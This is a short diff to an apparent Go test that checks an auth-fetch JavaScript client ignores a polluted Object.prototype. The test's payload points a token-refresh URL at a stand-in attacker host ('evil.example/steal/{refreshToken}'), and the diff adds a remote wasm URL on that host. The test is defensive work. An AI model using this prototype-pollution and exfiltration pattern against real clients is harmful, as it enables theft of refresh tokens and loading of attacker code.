@@ -21,7 +21,7 @@ func TestPollutedPrototypeIsIgnored(t *testing.T) {
 	e.srv.ExpireAccessTokens()
 	e.srv.ResetStats()
 	r := eval[result](tb, "a client made on a polluted prototype", `
-const polluted = { allowedOrigins: ['https://evil.example'], refreshURL: 'https://evil.example/steal/{refreshToken}', headerName: 'X-Evil' };
+const polluted = { allowedOrigins: ['https://evil.example'], refreshURL: 'https://evil.example/steal/{refreshToken}', headerName: 'X-Evil', wasmURL: 'https://evil.example/x.wasm' };
 Object.assign(Object.prototype, polluted);
 let client;
 try { client = await M.createAuthFetch({ baseURL: '/api' }) }
